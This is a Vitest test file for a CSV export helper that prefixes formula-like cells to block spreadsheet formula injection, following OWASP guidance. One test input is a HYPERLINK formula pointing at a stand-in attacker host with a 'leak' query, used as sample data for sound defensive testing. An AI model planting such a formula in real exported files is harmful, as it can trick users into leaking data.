import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '@/shared/csv';

// The characters that make a spreadsheet read a cell as a formula: OWASP's CSV-injection guidance.
describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak","Click")', `"'=HYPERLINK(""http://evil.example/?leak"",""Click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('when a text cell starts like a formula (%j), then it is prefixed with a quote mark', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    ['Loch, north shore', '"Loch, north shore"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['Glen Coe = lovely', 'Glen Coe = lovely'],
  ])('when ordinary text (%j) is written, then only separators and quotes are quoted', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    [-12.5, '-12.5'],
    [0, '0'],
    [42, '42'],
    [Number.NaN, ''],
  ])('when a number (%d) is written, then it stays a number', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('toCsv', () => {
  it('when rows are joined, then each line ends with CRLF', () => {
    expect(
      toCsv([
        ['a', 1],
        ['-b', -1],
      ]),
    ).toBe("a,1\r\n'-b,-1\r\n");
  });
});
